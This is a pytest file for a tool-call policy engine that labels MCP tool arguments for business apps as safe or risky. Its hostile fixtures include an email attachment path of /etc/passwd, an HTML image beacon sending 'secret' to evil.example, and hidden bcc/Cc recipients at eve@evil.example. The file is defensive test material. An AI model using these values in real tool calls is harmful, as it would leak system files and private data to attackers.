"""What the manifests of business and personal tools lower by arguments, and what hostile arguments do not."""

from __future__ import annotations

from typing import Any

import pytest

from rule_of_two.manifests.manifest import Manifest
from rule_of_two.model import labels_in
from tests.manifests.bound import shipped_document, shipped_manifest

LOWERED: list[tuple[str, str, dict[str, Any], str]] = [
    ("apple", "mail", {"operation": "unread"}, "AB"),
    ("apple", "messages", {"operation": "send", "phoneNumber": "+1", "message": "x"}, "C"),
    ("box", "box_file_download_tool", {"file_id": "1", "save_file": False}, "AB"),
    ("elevenlabs", "add_knowledge_base_to_agent", {"agent_id": "a", "text": "t"}, "C"),
    ("hugging-face", "hf_fs", {"operations": [{"cmd": "ls"}, {"cmd": "cat"}]}, "AB"),
    ("memory-service", "memory_harvest", {"dry_run": True}, "AB"),
    ("monday", "create_item", {"boardId": 1, "name": "x"}, "C"),
    ("obsidian", "obsidian_patch_content", {"filepath": "a.md", "target_type": "block"}, "C"),
    ("resend", "create-contact-import", {"content": "x"}, "C"),
    ("resend", "send-email", {"to": ["a@b.example"], "text": "t"}, "C"),
    ("square", "make_api_request", {"service": "payments", "method": "list"}, "AB"),
    ("todoist", "manage-assignments", {"operation": "assign", "dryRun": True}, "AB"),
    ("trello", "add_card_to_list", {"listId": "l", "name": "n"}, "C"),
]
HOSTILE: list[tuple[str, str, dict[str, Any], str]] = [
    ("apple", "mail", {"operation": "Unread"}, "ABC"),
    ("apple", "messages", {"operation": ["read"]}, "ABC"),
    ("apple", "messages", {"operation": "read "}, "ABC"),
    ("box", "box_file_download_tool", {"file_id": "1", "save_file": "false"}, "ABC"),
    ("box", "box_file_download_tool", {"file_id": "1", "save_file": False, "save_path": "/x"}, "ABC"),
    ("elevenlabs", "add_knowledge_base_to_agent", {"agent_id": "a", "input_file_path": ""}, "BC"),
    ("hugging-face", "hf_fs", {"operations": [{"cmd": "ls"}, {"cmd": "search"}]}, "ABC"),
    ("hugging-face", "hf_fs", {"operations": []}, "ABC"),
    ("memory-service", "memory_harvest", {}, "ABC"),
    ("memory-service", "memory_harvest", {"dry_run": True, "use_llm": True}, "ABC"),
    ("monday", "create_item", {"boardId": 1, "duplicateFromItemId": 0}, "ABC"),
    ("obsidian", "obsidian_patch_content", {"filepath": "a.md", "target_type": "heading"}, "ABC"),
    ("resend", "create-contact-import", {"filePath": ""}, "BC"),
    ("resend", "send-email", {"to": ["a@b.example"], "attachments": [{"filePath": "/etc/passwd"}]}, "BC"),
    ("serena", "replace_in_files", {"dry_run": 1}, "ABC"),
    ("square", "make_api_request", {"service": "payments", "method": "LIST"}, "ABC"),
    ("square", "make_api_request", {"service": "orders", "method": "pay"}, "ABC"),
    ("todoist", "manage-assignments", {"operation": "assign", "dryRun": "true"}, "ABC"),
    ("trello", "add_card_to_list", {"listId": "l", "labels": ["a"]}, "ABC"),
]


@pytest.mark.parametrize(("server", "tool", "arguments", "labels"), [*LOWERED, *HOSTILE])
def test_only_the_plain_value_takes_a_label_off(server: str, tool: str, arguments: dict[str, Any], labels: str) -> None:
    assert shipped_manifest(server).tool(tool, arguments).labels == labels_in(labels)


OWN = {"to": ["me@own.example"], "subject": "x", "text": "t"}


@pytest.mark.parametrize(
    ("arguments", "labels"),
    [
        (OWN, ""),
        (OWN | {"to": ["me@own.example", "eve@evil.example"]}, "BC"),
        (OWN | {"to": ["Me@own.example"]}, "BC"),
        (OWN | {"bcc": ["eve@evil.example"]}, "C"),
        (OWN | {"headers": {"Cc": "eve@evil.example"}}, "C"),
        (OWN | {"html": "<img src='https://evil.example/?d=secret'>"}, "C"),
        (OWN | {"attachments": [{"filePath": "/etc/passwd"}]}, "BC"),
    ],
)
def test_mail_to_oneself_is_plain_mail_to_nobody_else(arguments: dict[str, Any], labels: str) -> None:
    document = shipped_document("resend")
    ours = Manifest(document, upstream="resend", store="resend", parameters={"own_recipients": ["me@own.example"]})
    assert ours.tool("send-email", arguments).labels == labels_in(labels)


MONEY = {
    "paypal": ["create_invoice", "send_invoice", "pay_order", "create_refund", "accept_dispute_claim"],
    "stripe": ["create_refund", "finalize_invoice", "update_subscription", "create_payment_link"],
    "xero": ["create-payment", "create-bank-transaction", "create-manual-journal"],
    "square": ["make_api_request"],
}


@pytest.mark.parametrize("server", sorted(MONEY))
def test_what_moves_money_is_a_sensitive_system_and_an_act(server: str) -> None:
    for tool in MONEY[server]:
        assert shipped_manifest(server).tool(tool, {}).labels >= labels_in("BC"), tool


EXPOSING = {
    "asana": ["asana_add_project_to_task", "asana_add_task_to_section"],
    "box": ["box_shared_link_file_create_or_update_tool", "box_collaboration_file_user_by_user_login_tool"],
    "mailgun": ["post-v3-domains-domain-webhooks", "put-v3-routes-id"],
    "miro": ["share-board", "add-project-member", "create-board-export-job"],
    "monday": ["move_object", "create_dashboard"],
    "resend": ["share-email", "update-webhook", "send-broadcast"],
}


@pytest.mark.parametrize("server", sorted(EXPOSING))
def test_what_shows_stored_things_to_others_is_private_data_even_where_no_word_of_it_comes_back(server: str) -> None:
    for tool in EXPOSING[server]:
        assert shipped_manifest(server).tool(tool, {}).labels >= labels_in("BC"), tool
